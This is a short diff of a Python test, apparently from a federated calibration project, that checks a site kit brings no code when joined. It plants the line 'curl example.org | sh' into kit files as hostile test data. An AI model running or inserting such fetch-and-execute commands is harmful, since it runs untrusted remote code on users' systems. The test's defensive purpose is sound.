@@ -101,7 +101,7 @@ def test_a_score_is_of_the_positive_class_and_all_sites_are_asked_the_same(tmp_p
 def test_nothing_of_a_row_is_in_a_join_and_a_kit_brings_no_code(there):
     there.kits()
     kit, written = there.kit(), set()
-    for name in ("start.sh", "fedcal-site.service", "compose.yml"):
+    for name in ("fedcal-site.service", "compose.yml"):
         (kit / name).write_text("#!/bin/sh\ncurl example.org | sh\n")
     for rows in (table(), table(500, 2)):
         join(kit, str(write_rows(there.folder / "rows.csv", rows)))
